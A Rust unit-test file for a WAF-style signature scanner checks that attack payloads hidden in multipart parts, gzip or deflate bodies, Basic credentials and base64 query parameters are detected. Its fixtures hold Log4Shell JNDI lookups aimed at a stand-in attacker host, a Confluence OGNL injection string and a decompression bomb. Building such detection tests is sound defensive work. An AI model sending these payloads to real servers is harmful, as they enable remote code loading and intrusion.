//! Unit tests of the decoded views: multipart parts, inflated bodies and `Basic` credentials,
//! as locations rules name or exclude, with the findings a broken encoding leaves.

use super::RequestView;
use crate::headers::HeaderBlock;
use crate::mirror::MirrorPolicy;
use miniz_oxide::deflate::{compress_to_vec, compress_to_vec_zlib};
#[cfg(target_arch = "wasm32")]
use wasm_bindgen_test::wasm_bindgen_test as test;

const TARGET: &str = r#""targets":{"ids":{"cluster":"s","delivery":"header"}}"#;

fn policy(extra: &str) -> MirrorPolicy {
    MirrorPolicy::from_json(format!(r#"{{{TARGET}{extra}}}"#).as_bytes())
        .unwrap_or_else(|e| panic!("{e}"))
}

fn builtin() -> MirrorPolicy {
    policy("")
}

/// A gzip member of `data`.
fn gzip(data: &[u8]) -> Vec<u8> {
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    out.extend(compress_to_vec(data, 6));
    out.extend([0u8; 8]);
    out
}

/// What the policy's signatures find, as `(rule id, view)`, and the decoding findings, for a
/// request scanned as the mirror scans it (the head, then the body when a rule wants it).
fn scan(
    p: &MirrorPolicy,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: &[u8],
) -> (Vec<(String, String)>, Vec<&'static str>) {
    let mut h: Vec<(String, String)> = headers
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    h.push((":authority".into(), "localhost".into()));
    let headers = HeaderBlock::from(h);
    let view = RequestView {
        method,
        path,
        headers: &headers,
    };
    let set = p.signature_set();
    let mut hits = set.new_hits();
    set.scan_head(&view, &mut hits);
    if !hits.any() && !body.is_empty() && set.wants_body(&view) {
        set.scan_body(
            &view,
            &body[..body.len().min(p.max_body_bytes())],
            &mut hits,
        );
    }
    (set.hit_views(&hits), hits.findings())
}

fn ids<'a>(found: &'a (Vec<(String, String)>, Vec<&'static str>)) -> Vec<&'a str> {
    found.0.iter().map(|(id, _)| id.as_str()).collect()
}

const FORM: &str = "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxk";

fn form(parts: &[(&str, Option<&str>, &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, filename, value) in parts {
        out.extend(b"------WebKitFormBoundary7MA4YWxk\r\n");
        match filename {
            Some(f) => out.extend(
                format!("Content-Disposition: form-data; name=\"{name}\"; filename=\"{f}\"\r\nContent-Type: image/png\r\n\r\n").bytes(),
            ),
            None => out.extend(format!("Content-Disposition: form-data; name=\"{name}\"\r\n\r\n").bytes()),
        }
        out.extend_from_slice(value);
        out.extend(b"\r\n");
    }
    out.extend(b"------WebKitFormBoundary7MA4YWxk--\r\n");
    out
}

#[test]
fn confluence_ognl_as_a_multipart_part_is_found_in_the_multipart_view() {
    let body = form(&[(
        "queryString",
        None,
        b"aaaaaaaa\\u0027+{Class.forName(\\u0027javax.script.ScriptEngineManager\\u0027)}+\\u0027",
    )]);
    let found = scan(
        &builtin(),
        "POST",
        "/pages/createpage-entervariables.action",
        &[("content-type", FORM)],
        &body,
    );
    assert!(
        ids(&found).contains(&"ms-confluence-26084-escaped-quote"),
        "{found:?}"
    );
    assert!(
        found.0.iter().all(|(_, v)| v == "body.multipart"),
        "{found:?}"
    );
    assert!(found.1.is_empty());
}

#[test]
fn log4shell_in_a_gzip_json_body_is_found_in_the_inflated_view() {
    let json = br#"{"order":{"note":"${jndi:ldap://attacker.example/a}","qty":1}}"#;
    for (coding, body) in [
        ("gzip", gzip(json)),
        ("deflate", compress_to_vec_zlib(json, 6)),
        ("deflate", compress_to_vec(json, 6)),
    ] {
        let found = scan(
            &builtin(),
            "POST",
            "/api/orders",
            &[
                ("content-type", "application/json"),
                ("content-encoding", coding),
            ],
            &body,
        );
        assert!(
            ids(&found).contains(&"ms-log4shell-jndi"),
            "{coding}: {found:?}"
        );
        assert!(
            found.0.iter().all(|(_, v)| v.starts_with("body.inflated")),
            "{found:?}"
        );
    }
}

#[test]
fn log4shell_as_the_basic_user_name_is_found_in_the_credentials_view() {
    // base64("${jndi:ldap://attacker.example/a}:x")
    let found = scan(
        &builtin(),
        "GET",
        "/admin",
        &[(
            "authorization",
            "Basic JHtqbmRpOmxkYXA6Ly9hdHRhY2tlci5leGFtcGxlL2F9Ong=",
        )],
        b"",
    );
    assert!(
        found.0.contains(&(
            "ms-log4shell-jndi".to_string(),
            "headers.credentials".to_string()
        )),
        "{found:?}"
    );
    assert!(
        found.0.iter().all(|(_, v)| v == "headers.credentials"),
        "{found:?}"
    );
}

#[test]
fn look_alikes_do_not_fire() {
    let p = builtin();
    let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    png.extend((0..4096u32).map(|i| (i * 7919 % 251) as u8));
    let upload = form(&[
        ("title", None, b"holiday"),
        ("file", Some("beach.png"), &png),
    ]);
    let found = scan(&p, "POST", "/upload", &[("content-type", FORM)], &upload);
    assert_eq!(found, (vec![], vec![]));
    let json = br#"{"order":{"note":"leave at the door, ring twice","qty":3,"items":["a","b"]}}"#;
    let found = scan(
        &p,
        "POST",
        "/api/orders",
        &[
            ("content-type", "application/json"),
            ("content-encoding", "gzip"),
        ],
        &gzip(json),
    );
    assert_eq!(found, (vec![], vec![]));
    // base64("alice:correct horse battery staple")
    let found = scan(
        &p,
        "GET",
        "/admin",
        &[(
            "authorization",
            "Basic YWxpY2U6Y29ycmVjdCBob3JzZSBiYXR0ZXJ5IHN0YXBsZQ==",
        )],
        b"",
    );
    assert_eq!(found, (vec![], vec![]));
}

#[test]
fn hostile_encodings_are_findings_with_a_bounded_cost() {
    let p = builtin();
    let json = r#"{"a":"${jndi:ldap://x/a}"}"#;
    let gz = gzip(json.as_bytes());
    let head = [
        ("content-type", "application/json"),
        ("content-encoding", "gzip"),
    ];
    // A truncated stream (the body was not cut: its length is the one declared) is broken;
    // what inflated before the cut is still matched.
    let cut = &gz[..gz.len() - 12];
    let len = cut.len().to_string();
    let found = scan(
        &p,
        "POST",
        "/",
        &[head[0], head[1], ("content-length", &len)],
        cut,
    );
    assert!(found.1.contains(&"body_encoding_broken"), "{found:?}");
    // A stream that is not gzip at all is read as sent, and named.
    let found = scan(&p, "POST", "/", &head, json.as_bytes());
    assert!(ids(&found).contains(&"ms-log4shell-jndi"), "{found:?}");
    assert_eq!(found.1, ["body_encoding_broken"]);
    // A 1000:1 bomb inflates no further than the body budget.
    let mut bomb_json = br#"{"a":""#.to_vec();
    bomb_json.extend(std::iter::repeat_n(b'a', 1 << 20));
    bomb_json.extend(br#"","b":"${jndi:ldap://x/a}"}"#);
    let bomb = gzip(&bomb_json);
    assert!(bomb.len() * 900 < bomb_json.len(), "{}", bomb.len());
    let found = scan(&p, "POST", "/", &head, &bomb);
    assert_eq!(found, (vec![], vec!["body_inflate_bomb"]));
    // Invalid base64 credentials, a nested multipart and an unclosed one: findings, no panic.
    let found = scan(
        &p,
        "GET",
        "/",
        &[("authorization", "Basic $$not base64$$")],
        b"",
    );
    assert_eq!(found.1, ["basic_credentials_invalid"]);
    let nested = b"--o\r\nContent-Disposition: form-data; name=f\r\nContent-Type: multipart/mixed; boundary=i\r\n\r\n--i\r\nContent-Disposition: file; filename=\"${jndi:ldap://x/a}\"\r\n\r\nA\r\n--i--\r\n--o--\r\n";
    let found = scan(
        &p,
        "POST",
        "/",
        &[("content-type", "multipart/form-data; boundary=o")],
        nested,
    );
    assert!(ids(&found).contains(&"ms-log4shell-jndi"), "{found:?}");
    assert!(found.1.is_empty());
    let unclosed = b"--o\r\nContent-Disposition: form-data; name=q\r\n\r\nplain";
    let found = scan(
        &p,
        "POST",
        "/",
        &[("content-type", "multipart/form-data; boundary=o")],
        unclosed,
    );
    assert_eq!(found.1, ["multipart_malformed"]);
    let found = scan(
        &p,
        "POST",
        "/",
        &[("content-type", "multipart/form-data")],
        unclosed,
    );
    assert_eq!(found.1, ["multipart_malformed"]);
}

#[test]
fn a_body_cut_at_the_budget_is_not_broken() {
    let p = policy(r#","max_body_bytes":256"#);
    let mut text = String::from(r#"{"a":""#);
    for i in 0..400 {
        text.push_str(&format!("{i:x}-{}", i * 31 % 97));
    }
    text.push_str(r#""}"#);
    let gz = gzip(text.as_bytes());
    assert!(gz.len() > 256);
    let found = scan(
        &p,
        "POST",
        "/",
        &[
            ("content-type", "application/json"),
            ("content-encoding", "gzip"),
        ],
        &gz,
    );
    assert_eq!(found, (vec![], vec![]));
}

#[test]
fn rules_name_and_exclude_the_decoded_views() {
    let pack = |rule: &str| {
        policy(&format!(
            r#","signatures":{{"builtin":false,"packs":[{{"pack":"p","rules":[{{"id":"r","name":"r","category":"c","severity":"high","match":{{"any":["evil"]}},{rule}}}]}}]}}"#
        ))
    };
    let multipart = form(&[("q", None, b"evil")]);
    let mp = [("content-type", FORM)];
    let gz = gzip(b"q=evil");
    let gzh = [
        ("content-type", "application/x-www-form-urlencoded"),
        ("content-encoding", "gzip"),
    ];
    // base64("evil:pw")
    let basic = [("authorization", "Basic ZXZpbDpwdw==")];
    let only_multipart = pack(r#""in":["multipart"]"#);
    assert_eq!(
        ids(&scan(&only_multipart, "POST", "/", &mp, &multipart)),
        ["r"]
    );
    assert!(ids(&scan(&only_multipart, "POST", "/", &gzh, &gz)).is_empty());
    assert!(ids(&scan(&only_multipart, "POST", "/?q=evil", &[], b"")).is_empty());
    let params_not_multipart = pack(r#""in":["params"],"not_in":["multipart"]"#);
    assert!(ids(&scan(&params_not_multipart, "POST", "/", &mp, &multipart)).is_empty());
    assert_eq!(
        ids(&scan(&params_not_multipart, "POST", "/?q=evil", &[], b"")),
        ["r"]
    );
    let body_not_inflated = pack(r#""in":["body"],"not_in":["inflated"]"#);
    assert!(ids(&scan(&body_not_inflated, "POST", "/", &gzh, &gz)).is_empty());
    let inflated = pack(r#""in":["inflated"],"params":["q"]"#);
    assert_eq!(
        scan(&inflated, "POST", "/", &gzh, &gz).0,
        [("r".into(), "body.inflated".into())]
    );
    let headers = pack(r#""in":["headers"]"#);
    assert_eq!(
        scan(&headers, "GET", "/", &basic, b"").0,
        [("r".into(), "headers.credentials".into())]
    );
    let headers_not_base64 = pack(r#""in":["headers"],"not_in":["base64"]"#);
    assert!(ids(&scan(&headers_not_base64, "GET", "/", &basic, b"")).is_empty());
    let credentials = pack(r#""in":["base64"],"headers":["authorization"]"#);
    assert_eq!(ids(&scan(&credentials, "GET", "/", &basic, b"")), ["r"]);
    assert!(ids(&scan(
        &credentials,
        "GET",
        "/",
        &[("authorization", "evil")],
        b""
    ))
    .is_empty());
}

#[test]
fn base64_parameter_values_are_decoded_only_when_asked() {
    let p = builtin();
    // base64("${jndi:ldap://x/a}")
    let path = "/search?q=JHtqbmRpOmxkYXA6Ly94L2F9";
    assert!(ids(&scan(&p, "GET", path, &[], b"")).is_empty());
    let set = super::SignatureSet::new(p.signature_set().rules().to_vec(), true)
        .unwrap_or_else(|e| panic!("{e}"))
        .with_base64_params(true);
    let headers = HeaderBlock::from(vec![(":authority".to_string(), "x".to_string())]);
    let view = RequestView {
        method: "GET",
        path,
        headers: &headers,
    };
    let mut hits = set.new_hits();
    set.scan_head(&view, &mut hits);
    let views = set.hit_views(&hits);
    assert!(
        views.contains(&(
            "ms-log4shell-jndi".to_string(),
            "query.params.base64".to_string()
        )),
        "{views:?}"
    );
}
